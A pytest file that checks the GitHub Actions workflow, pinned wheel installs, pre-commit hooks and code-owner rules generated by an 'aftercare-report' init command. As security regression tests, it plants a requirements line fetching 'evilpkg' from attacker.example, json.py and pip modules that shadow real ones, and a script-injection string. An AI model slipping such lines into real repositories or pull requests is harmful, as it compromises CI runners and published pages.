"""The CI files init writes: a workflow that actionlint accepts and that installs a pinned tool,
pre-commit hooks that need no activated venv, and commented examples that work uncommented."""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner, Result

from aftercare_report import ci_files
from aftercare_report.cli import cli
from aftercare_report.resources import bundled
from aftercare_report.wheel import wheel_bytes, wheel_name

KHMER_FONT = Path("/usr/share/fonts/truetype/noto/NotoSansKhmer-Regular.ttf")
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c63f8cfc0f01f0005000201b0b3d75a0000000049454e44ae426082"
)  # a 1x1 PNG


def run(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args))


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("ci") / "team"
    result = run("init", str(folder))
    assert result.exit_code == 0, result.output
    return folder


def actionlint(workflow: Path) -> subprocess.CompletedProcess[str]:
    beside = Path(sys.executable).parent / "actionlint"  # the venv's, even when not on PATH
    found = str(beside) if beside.is_file() else shutil.which("actionlint")
    if not found:
        message = "actionlint is not installed: pip install -e '.[dev]'"
        if os.environ.get("CI") == "true":
            pytest.fail(message)  # CI must check the workflow, never skip it quietly
        pytest.skip(message)
    return subprocess.run(
        [found, "-no-color", str(workflow)], capture_output=True, text=True, check=False
    )


def test_the_workflow_passes_actionlint(project: Path) -> None:
    checked = actionlint(project / ".github" / "workflows" / "briefs.yml")
    assert checked.returncode == 0, checked.stdout + checked.stderr


def test_actionlint_would_catch_a_broken_workflow(project: Path, tmp_path: Path) -> None:
    broken = tmp_path / "broken.yml"
    text = (project / ".github" / "workflows" / "briefs.yml").read_text()
    broken.write_text(text.replace("runs-on:", "runs_on:"))
    assert actionlint(broken).returncode != 0


def test_the_workflow_installs_the_pinned_wheel_and_nothing_by_bare_name(project: Path) -> None:
    workflow = yaml.safe_load((project / ".github" / "workflows" / "briefs.yml").read_text())
    steps = workflow["jobs"]["briefs"]["steps"]
    installs = [
        line.strip()
        for step in steps
        for line in step.get("run", "").splitlines()
        if "pip install" in line
    ]
    assert installs == [
        "python -m pip install --require-hashes --no-deps -r tools/requirements.txt",
        "python -m pip install -r tools/dependencies.txt",
    ]
    pinned = (project / "tools" / "requirements.txt").read_text()
    (requirement,) = [line for line in pinned.splitlines() if not line.startswith("#")]
    path, digest = re.fullmatch(r"(\S+) --hash=sha256:([0-9a-f]{64})", requirement).groups()
    assert path == f"tools/{wheel_name()}"
    assert hashlib.sha256((project / path).read_bytes()).hexdigest() == digest
    deps = (project / "tools" / "dependencies.txt").read_text()
    assert "weasyprint" in deps and "aftercare-report" not in deps.split("\n", 1)[1]
    assert workflow["permissions"] == {"contents": "read"}


def test_actions_are_pinned_by_commit_with_their_version(project: Path) -> None:
    text = (project / ".github" / "workflows" / "briefs.yml").read_text()
    uses = re.findall(r"uses: (\S+)@(\S+)(?: # (\S+))?", text)
    assert {u[0] for u in uses} == {
        "actions/checkout",
        "actions/setup-python",
        "actions/cache",
        "actions/upload-artifact",
    }
    for _, ref, version in uses:
        assert re.fullmatch(r"[0-9a-f]{40}", ref) and re.fullmatch(r"v\d+\.\d+\.\d+", version)
    assert "cache: pip" in text and "Dir::Cache::Archives" in text  # pip and apt caches


def test_the_wheel_is_reproducible_and_complete(project: Path, tmp_path: Path) -> None:
    again = tmp_path / wheel_name()
    wheel_bytes.cache_clear()  # made again, not remembered
    again.write_bytes(wheel_bytes())
    assert again.read_bytes() == (project / "tools" / wheel_name()).read_bytes()
    with zipfile.ZipFile(again) as wheel:
        names = set(wheel.namelist())
    assert "aftercare_report/cli.py" in names
    assert "aftercare_report/_bundled/profiles/thailand.yaml" in names
    assert "aftercare_report/_bundled/docs/templates.md" in names


def test_a_tool_source_url_replaces_the_wheel(tmp_path: Path) -> None:
    url = "git+https://github.com/example/aftercare-report@" + "a" * 40
    result = run("init", str(tmp_path / "team"), "--tool-source", url)
    assert result.exit_code == 0, result.output
    assert not list((tmp_path / "team" / "tools").glob("*.whl"))
    pinned = (tmp_path / "team" / "tools" / "requirements.txt").read_text()
    assert f"aftercare-report @ {url}" in pinned
    workflow = (tmp_path / "team" / ".github" / "workflows" / "briefs.yml").read_text()
    assert "python -m pip install -r tools/requirements.txt" in workflow
    assert actionlint(tmp_path / "team" / ".github" / "workflows" / "briefs.yml").returncode == 0


@pytest.mark.parametrize(
    "url",
    [
        "aftercare-report",
        "aftercare-report==0.1.0",
        "git+https://github.com/example/aftercare-report",
        "git+https://github.com/example/aftercare-report@main",
        "http://example.org/aftercare_report-0.1.0-py3-none-any.whl",
    ],
)
def test_a_tool_source_that_could_move_is_refused(tmp_path: Path, url: str) -> None:
    result = run("init", str(tmp_path / "team"), "--tool-source", url)
    assert result.exit_code == 2 and "--tool-source" in result.stderr
    assert not (tmp_path / "team").exists()


def test_tools_only_upgrades_the_pin_and_leaves_the_teams_files(project: Path) -> None:
    config = project / "aftercare-report.toml"
    edited = config.read_text() + "\n# our own note\n"
    config.write_text(edited)
    (project / "tools" / "requirements.txt").write_text("stale\n")
    result = run("init", str(project), "--tools-only")
    assert result.exit_code == 0, result.output
    assert config.read_text() == edited
    assert "--hash=sha256:" in (project / "tools" / "requirements.txt").read_text()


def test_pre_commit_hooks_run_without_an_activated_venv(project: Path) -> None:
    config = yaml.safe_load((project / ".pre-commit-config.yaml").read_text())
    hooks = config["repos"][0]["hooks"]
    assert {h["language"] for h in hooks} == {"python"}  # pre-commit makes the environment
    assert all(h["entry"].startswith("python tools/pre-commit-hook.py ") for h in hooks)
    for name in ("profiles/x.yaml", "aftercare-report.toml", "templates/country.html"):
        assert any(re.search(h["files"], name) for h in hooks), name
    hook = (project / "tools" / "pre-commit-hook.py").read_text()
    assert "--require-hashes" in hook
    compile(hook, "pre-commit-hook.py", "exec")


def test_gitignore_keeps_outputs_and_venvs_out(project: Path) -> None:
    lines = (project / ".gitignore").read_text().splitlines()
    assert "/briefs/" in lines and ".venv/" in lines


def _uncommented(text: str, example: re.Pattern[str]) -> str:
    return "\n".join(line[2:] if example.match(line) else line for line in text.splitlines()) + "\n"


@pytest.mark.slow
@pytest.mark.skipif(not KHMER_FONT.is_file(), reason="needs Debian's fonts-noto-core")
def test_every_commented_example_works_uncommented(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "team"
    assert run("init", str(folder), "--tool-source", "git+https://x.org/a/b@v1").exit_code == 0
    config = folder / "aftercare-report.toml"
    # A TOML example is a commented key = value or [table]; prose comments stay comments.
    toml_example = re.compile(r"^# (\[[a-z.]+\]|[a-z_]+ = )")
    text = config.read_text()
    assert len([line for line in text.splitlines() if toml_example.match(line)]) >= 15
    config.write_text(_uncommented(text, toml_example).replace("#   ", "  #"))
    override = folder / "templates" / "country.html"
    html = override.read_text()
    assert "{#- <p>" in html
    override.write_text(re.sub(r"\{#- (<.*?>) -#\}", r"\1", html))
    (folder / "templates" / "logo.png").write_bytes(PNG)  # the files the examples name
    (folder / "templates" / "fonts").mkdir()
    for font in (KHMER_FONT, KHMER_FONT.with_name("NotoSansKhmer-Bold.ttf")):
        shutil.copy(font, folder / "templates" / "fonts" / font.name)
    monkeypatch.chdir(folder)
    checked = run("validate", "--strict")
    assert checked.exit_code == 0, checked.output
    built = run("build", "thailand", "--format", "html", "--language", "fr")
    assert built.exit_code == 0, built.output
    brief = (folder / "briefs" / "fr" / "thailand.html").read_text()  # languages = [en, fr]
    assert "Prepared by our team with the survivor advisory group." in brief
    assert "personnes survivantes" in brief


def _git(root: Path, *args: str) -> None:
    ident = ["-c", "user.name=Test", "-c", "user.email=t@example.org"]
    subprocess.run(["git", "-C", str(root), *ident, *args], capture_output=True, check=True)


def _steps_github_runs(workflow: Path, job: str, event: str) -> list[dict[str, str]]:
    """The `run` steps of a job that GitHub runs on this event, with their env.

    The conditions the workflow uses are only of the event's name; any other is an error here,
    so a new condition cannot slip past the test.
    """
    data = yaml.safe_load(workflow.read_text())
    chosen = []
    for step in data["jobs"][job]["steps"]:
        condition = step.get("if")
        if condition is not None:
            match = re.fullmatch(r"github\.event_name == '(\w+)'", condition)
            assert match, f"a condition this test cannot evaluate: {condition}"
            if match[1] != event:
                continue
        if "run" in step:
            chosen.append(step)
    return chosen


@pytest.mark.slow
@pytest.mark.parametrize("event", ["pull_request", "push"])
def test_the_workflow_steps_write_what_a_pull_request_changes_to_the_job_summary(
    tmp_path: Path, event: str
) -> None:
    """Run the workflow's own steps as GitHub would on a pull request's merge commit.

    actions/checkout gives a pull request's workflow the merge commit GitHub made (HEAD),
    whose first parent is the base branch (HEAD^1), and GitHub names the job summary file in
    GITHUB_STEP_SUMMARY. The steps that install Python, Debian packages and the pinned tool are
    replaced by this test's environment (the tool on the PATH), and `build` is left to the
    build tests (it makes every PDF).
    """
    root = tmp_path / "team"
    assert run("init", str(root), "--tool-source", "git+https://x.org/a/b@v1").exit_code == 0
    profile = root / "profiles" / "thailand.yaml"
    profile.write_bytes((bundled("profiles") / "thailand.yaml").read_bytes())
    _git(root, "init", "-q", "-b", "main")
    _git(root, "add", "-A")
    _git(root, "commit", "-q", "-m", "main")
    _git(root, "checkout", "-q", "-b", "new-evidence")
    data = yaml.safe_load(profile.read_text())
    data["components"]["health"]["level"] += 1
    data["components"]["health"].pop("meets", None)
    profile.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False))
    _git(root, "commit", "-q", "-am", "health: new evidence")
    _git(root, "checkout", "-q", "main")
    _git(root, "merge", "-q", "--no-ff", "new-evidence", "-m", "Merge pull request #1")
    summary = tmp_path / "step-summary.md"
    summary.touch()
    env = {
        "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
        "HOME": str(tmp_path),
        "GITHUB_EVENT_NAME": event,
        "GITHUB_STEP_SUMMARY": str(summary),
        "CI": "true",
    }
    ran = []
    workflow = root / ".github" / "workflows" / "briefs.yml"
    for step in _steps_github_runs(workflow, "briefs", event):
        script = step["run"]
        if "pip install" in script or "apt-get" in script or "aftercare-report build" in script:
            continue
        done = subprocess.run(
            ["bash", "-e", "-c", script], cwd=root, env=env, capture_output=True, text=True
        )
        assert done.returncode == 0, f"{script}\n{done.stdout}\n{done.stderr}"
        ran.append(script)
    text = summary.read_text()
    if event == "push":
        assert ran == ["aftercare-report validate --strict --format github"]
        assert text == ""
        return
    assert ran[-1] == "aftercare-report diff HEAD^1 HEAD --format github"
    assert "## What changed in the briefs" in text and "### Thailand" in text
    level = data["components"]["health"]["level"]
    assert re.search(rf"\*\*[^*]+\*\*: level {level - 1} → {level}", text)
    assert "Unchanged: India, Nigeria, United Kingdom, United States." in text


def test_a_matrix_workflow_passes_actionlint_and_keys_each_shard_on_the_set_of_briefs(
    tmp_path: Path,
) -> None:
    root = tmp_path / "team"
    result = run("init", str(root), "--shards", "4", "--tool-source", "git+https://x.org/a/b@v1")
    assert result.exit_code == 0, result.output
    workflow = root / ".github" / "workflows" / "briefs.yml"
    checked = actionlint(workflow)
    assert checked.returncode == 0, checked.stdout + checked.stderr
    data = yaml.safe_load(workflow.read_text())
    assert data["permissions"] == {"contents": "read"}
    assert data["jobs"]["build"]["strategy"]["matrix"]["shard"] == [1, 2, 3, 4]
    assert (
        data["jobs"]["build"]["needs"] == "validate" and data["jobs"]["briefs"]["needs"] == "build"
    )
    key = data["jobs"]["build"]["env"]["AFTERCARE_REPORT_CACHE_KEY"]
    assert "github.event_name == 'push' && secrets.AFTERCARE_REPORT_CACHE_KEY" in key
    assert all("secrets." not in json.dumps(data["jobs"][job]) for job in ("validate", "briefs"))
    key = _plan_key(data, root, tmp_path, "2/4")
    assert re.fullmatch(r"key=briefs-[0-9a-f]{16}-2-of-4\n", key)
    upload = data["jobs"]["build"]["steps"][-1]["with"]["path"]
    assert "!briefs/manifest.json" in upload  # each shard's manifest stays in its cache
    join = data["jobs"]["briefs"]["steps"][0]
    assert join["with"] == {"pattern": "briefs-*", "path": "briefs/", "merge-multiple": True}


def _pull_request(root: Path, change: dict[str, str], base_change: dict[str, str]) -> None:
    """Commit the project on main, a branch that writes ``change``, and GitHub's merge commit.

    ``base_change`` is written on main after the branch left it, as a base branch moves on.
    """
    _git(root, "init", "-q", "-b", "main")
    _git(root, "add", "-A")
    _git(root, "commit", "-q", "-m", "main")
    _git(root, "checkout", "-q", "-b", "contribution")
    for name, text in change.items():
        with (root / name).open("a", encoding="utf-8") as file:
            file.write(text)
    _git(root, "add", "-A")
    _git(root, "commit", "-q", "-m", "contribution")
    _git(root, "checkout", "-q", "main")
    for name, text in base_change.items():
        with (root / name).open("a", encoding="utf-8") as file:
            file.write(text)
    _git(root, "add", "-A")
    _git(root, "commit", "-q", "-m", "main moves on")
    _git(root, "merge", "-q", "--no-ff", "contribution", "-m", "Merge pull request #2")


EVIL = "evilpkg @ https://attacker.example/evilpkg-1.tar.gz\n"


@pytest.mark.parametrize(("shards", "job"), [(1, "briefs"), (3, "validate")])
@pytest.mark.parametrize(
    ("change", "refused"),
    [
        ({"tools/requirements.txt": EVIL}, True),
        ({"tools/dependencies.txt": EVIL}, True),  # a file the project did not have
        ({"tools/pre-commit-hook.py": "import os\n"}, True),
        ({"profiles/README.md": "More.\n"}, False),  # while main changed tools/ (base_change)
    ],
)
def test_a_pull_request_that_changes_tools_installs_nothing(
    tmp_path: Path, shards: int, job: str, change: dict[str, str], refused: bool
) -> None:
    """The job's steps, run in order on the merge commit, until the first that installs the tool.

    A pull request's tools/ is code of its choosing (its requirements' build backends run on
    the runner): changed, the job must stop with an annotation before any step installs it.
    """
    root = tmp_path / "team"
    args = ["--shards", str(shards), "--tool-source", "git+https://x.org/a/b@v1"]
    assert run("init", str(root), *args).exit_code == 0
    _pull_request(root, change, {"tools/UPGRADED.md": "On main.\n"})
    workflow = root / ".github" / "workflows" / "briefs.yml"
    env = {"PATH": os.environ["PATH"], "HOME": str(tmp_path), "GITHUB_EVENT_NAME": "pull_request"}
    failed = None
    for step in _steps_github_runs(workflow, job, "pull_request"):
        if "apt-get" in step["run"]:
            continue
        if "pip install" in step["run"]:
            break
        done = subprocess.run(
            ["bash", "-e", "-c", step["run"]], cwd=root, env=env, capture_output=True, text=True
        )
        if done.returncode:
            failed = done
            break
    if not refused:
        assert failed is None, failed
        return
    assert failed is not None, "a step installed the tool from the pull request's tools/"
    error = failed.stdout.splitlines()[0]
    assert error.startswith("::error title=tools/ changed::This pull request changes tools/")
    assert "A maintainer updates tools/ on the protected branch" in error
    assert next(iter(change)) in failed.stdout  # the diffstat names the file
    if shards > 1:  # the build jobs install too, and run only once this job passed
        assert yaml.safe_load(workflow.read_text())["jobs"]["build"]["needs"] == "validate"


def test_code_owners_review_what_runs_code_and_init_says_to_protect_it(tmp_path: Path) -> None:
    source = ["--tool-source", "git+https://x.org/a/b@v1"]
    plain = run("init", str(tmp_path / "plain"), *source)
    assert plain.exit_code == 0, plain.output
    assert not (tmp_path / "plain" / ".github" / "CODEOWNERS").exists()  # no invented owner
    assert "CI runs .github/ and installs tools/; pre-commit runs" in plain.output
    assert "(--code-owners @org/team)" in plain.output
    assert all(len(line) <= 80 for line in plain.output.splitlines()[-5:-1])
    owned = run("init", str(tmp_path / "owned"), *source, "--code-owners", "@our-org/briefs")
    assert owned.exit_code == 0, owned.output
    assert "'Require review from Code Owners'" in owned.output
    rules = [
        line
        for line in (tmp_path / "owned" / ".github" / "CODEOWNERS").read_text().splitlines()
        if not line.startswith("#")
    ]
    assert rules == [
        "/.github/ @our-org/briefs",
        "/tools/ @our-org/briefs",
        "/.pre-commit-config.yaml @our-org/briefs",
    ]


@pytest.mark.parametrize("owner", ["our-org/briefs", "@org/team\n/tools/ @someone-else", ""])
def test_a_code_owner_that_is_not_one_is_refused_and_nothing_is_written(
    tmp_path: Path, owner: str
) -> None:
    result = run("init", str(tmp_path / "team"), "--code-owners", owner)
    assert result.exit_code == 2
    assert "give @user, @org/team or an email address" in result.output
    assert not (tmp_path / "team").exists()


SHADOW = 'import sys\nprint("RAN FROM THE CHECKOUT")\nsys.exit(0)\n'


@pytest.mark.parametrize("shards", [1, 3])
def test_no_python_the_workflow_runs_imports_from_the_checkout(tmp_path: Path, shards: int) -> None:
    """Security review 10a, H1: a pip/ or json.py at the top of a pull request ran in CI."""
    root = tmp_path / "team"
    args = ["--shards", str(shards), "--tool-source", "git+https://x.org/a/b@v1"]
    assert run("init", str(root), *args).exit_code == 0
    (root / "json.py").write_text(SHADOW)
    (root / "pip").mkdir()
    (root / "pip" / "__init__.py").write_text("")
    (root / "pip" / "__main__.py").write_text(SHADOW)
    data = yaml.safe_load((root / ".github" / "workflows" / "briefs.yml").read_text())
    for job in data["jobs"].values():
        env = {**data.get("env", {}), **job.get("env", {})}
        assert env.get("PYTHONSAFEPATH") == "1"
        # Each Python the jobs start, started as a step starts it, in the checkout.
        for command in ('python -c "import json; print(json.dumps(1))"', "python -m pip --version"):
            done = subprocess.run(
                ["bash", "-c", command.replace("python", sys.executable, 1)],
                cwd=root,
                env={"PATH": os.environ["PATH"], "PYTHONSAFEPATH": env["PYTHONSAFEPATH"]},
                capture_output=True,
                text=True,
            )
            assert "RAN FROM THE CHECKOUT" not in done.stdout, command
            assert done.returncode == 0, done.stderr


def test_the_pre_commit_hook_runs_python_isolated_from_the_project_folder(
    project: Path,
) -> None:
    hook = (project / "tools" / "pre-commit-hook.py").read_text()
    assert 'PYTHON = [sys.executable, "-I"]' in hook
    assert "sys.executable," not in hook.replace('PYTHON = [sys.executable, "-I"]', "")


@pytest.mark.slow  # the workflow's build step, run for real
def test_the_workflow_publishes_only_what_its_build_wrote_into_its_own_folder(
    tmp_path: Path,
) -> None:
    """Security review 10a, M1: the project file chose `out`; CI uploaded briefs/ as found."""
    root = tmp_path / "team"
    assert run("init", str(root)).exit_code == 0
    config = root / "aftercare-report.toml"
    config.write_text(config.read_text().replace('out = "briefs"', 'out = "elsewhere"'))
    (root / "briefs").mkdir()
    (root / "briefs" / "index.html").write_text("<script>alert(1)</script>")  # git add -f
    data = yaml.safe_load((root / ".github" / "workflows" / "briefs.yml").read_text())
    steps = data["jobs"]["briefs"]["steps"]
    (build,) = [s for s in steps if "aftercare-report build" in s.get("run", "")]
    env = {"PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"}
    done = subprocess.run(
        ["bash", "-e", "-c", build["run"]],
        cwd=root,
        env={**env, "HOME": str(tmp_path)},
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    assert steps[-1]["with"]["path"] == "briefs/"  # what is uploaded
    published = sorted(p.name for p in (root / "briefs").iterdir())
    assert "index.html" not in published and "manifest.json" in published
    assert any(name.endswith(".pdf") for name in published)
    assert not (root / "elsewhere").exists()


def test_the_matrix_workflow_empties_its_folder_before_the_cache_and_builds_into_it(
    tmp_path: Path,
) -> None:
    matrix = tmp_path / "matrix"
    assert run("init", str(matrix), "--shards", "2").exit_code == 0
    data = yaml.safe_load((matrix / ".github" / "workflows" / "briefs.yml").read_text())
    steps = data["jobs"]["build"]["steps"]
    runs = [s.get("run", "") for s in steps]
    emptied = runs.index("rm -rf briefs")
    restored = next(
        i
        for i, s in enumerate(steps)
        if "cache" in s.get("uses", "") and s["with"]["path"] == "briefs/"
    )
    assert emptied < restored  # the checkout's briefs/ goes, then the sealed cache fills it
    assert 'aftercare-report build --shard "$SHARD" --out briefs' in runs


@pytest.mark.slow  # seconds of work: the fast set stays under a minute
def test_a_shards_cache_is_keyed_on_the_project_file_too(tmp_path: Path) -> None:
    # Security review 10a, L6: a change of languages kept the old briefs/<lang>/ in the cache.
    root = tmp_path / "team"
    assert (
        run(
            "init", str(root), "--shards", "2", "--tool-source", "git+https://x.org/a/b@v1"
        ).exit_code
        == 0
    )
    data = yaml.safe_load((root / ".github" / "workflows" / "briefs.yml").read_text())
    first = _plan_key(data, root, tmp_path, "1/2")
    assert _plan_key(data, root, tmp_path, "1/2") == first  # the same project, the same cache
    config = root / "aftercare-report.toml"
    config.write_text(config.read_text().replace('language = "en"', 'languages = ["en", "fr"]'))
    assert _plan_key(data, root, tmp_path, "1/2") != first


def _plan_key(workflow: dict[str, Any], root: Path, tmp_path: Path, shard: str) -> str:
    """Run the matrix workflow's "plan" step as a shard would, and return what it outputs."""
    (plan,) = [s for s in workflow["jobs"]["build"]["steps"] if s.get("id") == "plan"]
    output = tmp_path / "output"
    output.unlink(missing_ok=True)
    env = {
        **plan["env"],
        "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
        "HOME": str(tmp_path),
        "SHARD": shard,
        "RUNNER_TEMP": str(tmp_path),
        "GITHUB_OUTPUT": str(output),
    }
    done = subprocess.run(
        ["bash", "-e", "-c", plan["run"]], cwd=root, env=env, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    return output.read_text()


@pytest.mark.parametrize(
    "changed", ["profiles/thailand.yaml", "translations/fr.po", "aftercare-report.toml"]
)
def test_the_pre_commit_hooks_run_when_an_input_changes(changed: str) -> None:
    # Security review 17a, I5: a commit changing only a catalog ran no hook.
    hooks = yaml.safe_load(ci_files.PRE_COMMIT)["repos"][0]["hooks"]
    assert all(re.search(hook["files"], changed) for hook in hooks)
